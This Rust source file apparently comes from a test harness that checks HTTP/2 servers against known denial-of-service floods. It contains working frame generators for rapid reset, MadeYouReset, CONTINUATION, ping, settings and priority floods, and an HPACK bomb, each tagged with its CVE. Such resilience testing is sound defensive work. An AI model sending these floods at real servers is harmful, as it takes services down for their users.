//! Floods of HTTP/2, by a client that was admitted.

use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::time::timeout;

use crate::http2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, block, frame, frames, goaways, push_length,
};

/// More rounds than any server should take.
const FLOOD: u32 = 100_000;

/// The longest wait for what must happen.
const PATIENCE: Duration = Duration::from_secs(60);

/// What a client sends without end.
pub struct Flood {
    pub name: &'static str,
    /// The published bug.
    pub bug: &'static str,
    /// What it sends after the preface.
    pub first: Vec<u8>,
    /// The frames of each round.
    pub round: Box<dyn Fn(u32) -> Vec<u8> + Send + Sync>,
    pub rounds: u32,
    /// Whether the client reads what the server sends.
    pub reads: bool,
    /// Whether the server ends the connection before the last round.
    pub ends: bool,
    /// The most requests that reach the application.
    pub requests: usize,
}

impl Flood {
    fn new(
        name: &'static str,
        bug: &'static str,
        requests: usize,
        round: impl Fn(u32) -> Vec<u8> + Send + Sync + 'static,
    ) -> Self {
        Self {
            name,
            bug,
            first: Vec::new(),
            round: Box::new(round),
            rounds: FLOOD,
            reads: true,
            ends: true,
            requests,
        }
    }

    fn after(self, first: Vec<u8>) -> Self {
        Self { first, ..self }
    }

    fn unread(self) -> Self {
        Self {
            reads: false,
            ..self
        }
    }

    fn without_end(self, rounds: u32) -> Self {
        Self {
            rounds,
            ends: false,
            ..self
        }
    }

    /// Sends it until its last round, or until the server closes the connection.
    pub async fn send<IO>(&self, connection: IO) -> Cost
    where
        IO: AsyncRead + AsyncWrite + Send + 'static,
    {
        let (mut reading, mut writing) = tokio::io::split(connection);
        let reads = self.reads;
        let read = tokio::spawn(async move {
            let mut sent = Vec::new();
            if reads {
                let _ = reading.read_to_end(&mut sent).await;
            } else {
                // Its socket's buffer fills up. What is read then has come before.
                std::future::pending::<()>().await;
            }
            sent
        });
        let mut cost = Cost::default();
        let first = [PREFACE, &self.first].concat();
        let _ = writing.write_all(&first).await;
        while cost.rounds < self.rounds && !cost.has_ended {
            let frames = (self.round)(cost.rounds);
            let sending = async {
                writing.write_all(&frames).await?;
                writing.flush().await
            };
            match timeout(PATIENCE, sending).await.expect("an end") {
                Err(_) => cost.has_ended = true,
                Ok(()) => cost.rounds += 1,
            }
            cost.sent += frames.len();
        }
        if reads {
            let _ = timeout(PATIENCE, writing.shutdown()).await;
            let received = timeout(PATIENCE, read).await.expect("an end").unwrap();
            cost.received = received.len();
            cost.goaways = goaways(&received);
            let frames = frames(&received).into_iter();
            cost.responses = frames.filter(|frame| frame.kind == HEADERS).count();
        } else {
            read.abort();
        }
        cost
    }
}

/// What a flood cost the client.
#[derive(Debug, Default)]
pub struct Cost {
    pub rounds: u32,
    /// Bytes.
    pub sent: usize,
    pub received: usize,
    /// The error codes of GOAWAY frames.
    pub goaways: Vec<u32>,
    pub responses: usize,
    /// Whether the server closed the connection before the last round.
    pub has_ended: bool,
}

/// The floods, for a server that answers requests to this path.
pub fn floods(path: &str) -> Vec<Flood> {
    let get = move |path: &str| {
        block(&[
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", "localhost"),
            (":path", path),
        ])
    };
    let whole = get(path);
    let open = move |stream: u32| frame(HEADERS, END_HEADERS | END_STREAM, stream, &whole);
    let with = |first: fn(u32) -> Vec<u8>| {
        let open = open.clone();
        move |round| [open(stream_of(round)), first(stream_of(round))].concat()
    };
    // `x: yyy…`, without an end of the headers.
    let long = block(&[("x", &"y".repeat(16_000))]);
    let short = block(&[("x", "y")]);
    let began = frame(HEADERS, 0, 1, &get(path));
    let continued = |fields: Vec<u8>| move |_| frame(CONTINUATION, 0, 1, &fields);
    // One field of 4,000 bytes in HPACK's dynamic table, and then only its index.
    let mut bomb = get(path);
    bomb.extend(b"\x40\x01x");
    push_length(&mut bomb, 4_000);
    bomb.extend([b'y'; 4_000]);
    let named = get(path);
    vec![
        Flood::new("rapid reset", "CVE-2023-44487", 1_000, {
            let open = open.clone();
            move |round| {
                let canceled = (0..100).flat_map(|number| {
                    let stream = stream_of(round * 100 + number);
                    [
                        open(stream),
                        frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
                    ]
                    .concat()
                });
                canceled.collect()
            }
        }),
        Flood::new(
            "MadeYouReset, a window that overflows",
            "CVE-2025-8671",
            10_000,
            with(|stream| frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes())),
        ),
        Flood::new(
            "MadeYouReset, an increment of zero",
            "CVE-2025-8671",
            10_000,
            with(|stream| frame(WINDOW_UPDATE, 0, stream, &[0; 4])),
        ),
        Flood::new(
            "MadeYouReset, data after the end",
            "CVE-2025-8671",
            10_000,
            with(|stream| frame(DATA, 0, stream, b"x")),
        ),
        Flood::new(
            "MadeYouReset, headers after the end",
            "CVE-2025-8671",
            10_000,
            with(|stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\0\x01x\x01y")),
        ),
        Flood::new(
            "MadeYouReset, a priority of five bytes less",
            "CVE-2025-8671",
            10_000,
            with(|stream| frame(PRIORITY, 0, stream, b"")),
        ),
        Flood::new(
            "CONTINUATION of 16 kB",
            "CVE-2024-27316",
            0,
            continued(long),
        )
        .after(began.clone()),
        Flood::new(
            "CONTINUATION of one field",
            "CVE-2024-27316",
            0,
            continued(short),
        )
        .after(began.clone()),
        Flood::new(
            "CONTINUATION of nothing",
            "CVE-2024-27316",
            0,
            continued(Vec::new()),
        )
        .after(began),
        Flood::new("DATA of nothing", "CVE-2019-9518", 1, |_| {
            frame(DATA, 0, 1, b"")
        })
        .after(frame(HEADERS, END_HEADERS, 1, &named)),
        Flood::new("pings that are not read", "CVE-2019-9512", 0, |_| {
            frame(PING, 0, 0, b"12345678").repeat(100)
        })
        .unread(),
        Flood::new("settings that are not read", "CVE-2019-9515", 0, |_| {
            frame(SETTINGS, 0, 0, b"").repeat(100)
        })
        .unread(),
        Flood::new("settings that are read", "CVE-2019-9515", 0, |_| {
            frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff").repeat(100)
        })
        .without_end(100),
        Flood::new("pings that are read", "CVE-2019-9512", 0, |_| {
            frame(PING, 0, 0, b"12345678").repeat(100)
        })
        .without_end(100),
        Flood::new("priorities", "CVE-2019-9513", 0, |round| {
            frame(PRIORITY, 0, stream_of(round % 100), &[0, 0, 0, 0, 1]).repeat(100)
        })
        .without_end(100),
        Flood::new("unknown frames", "CVE-2019-9512", 0, |_| {
            frame(0xfa, 0, 0, b"x").repeat(100)
        })
        .without_end(100),
        Flood::new("an HPACK bomb", "CVE-2016-6581", 0, move |round| {
            // The entry is there from the first round on: 12,000 times 4,000 bytes.
            let mut fields = if round == 0 {
                bomb.clone()
            } else {
                named_bomb()
            };
            fields.resize(fields.len() + 12_000, 0xbe);
            frame(HEADERS, END_HEADERS | END_STREAM, stream_of(round), &fields)
        }),
        Flood::new("many headers", "CVE-2024-27316", 0, {
            let fields = [get(path), block(&[("x", "y"); 2_000])].concat();
            move |round| frame(HEADERS, END_HEADERS | END_STREAM, stream_of(round), &fields)
        }),
    ]
}

/// The stream of a round.
const fn stream_of(round: u32) -> u32 {
    round * 2 + 1
}

/// The pseudo-headers of a request, from the static table (RFC 7541, appendix A).
fn named_bomb() -> Vec<u8> {
    b"\x82\x87\x84\x01\x09localhost".to_vec()
}
